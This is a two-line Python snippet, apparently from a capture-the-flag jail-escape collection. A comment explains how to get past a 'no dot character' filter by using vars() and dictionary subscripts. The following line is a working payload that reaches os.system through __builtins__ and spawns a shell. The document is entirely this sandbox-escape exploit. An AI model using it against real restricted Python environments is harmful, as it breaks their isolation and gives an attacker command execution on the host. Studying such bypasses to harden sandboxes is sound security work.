# restriction: no dot character; idea: vars() turns modules into dicts so subscripts replace attribute access
vars(vars(__builtins__)['__import__']('os'))['system']('sh')
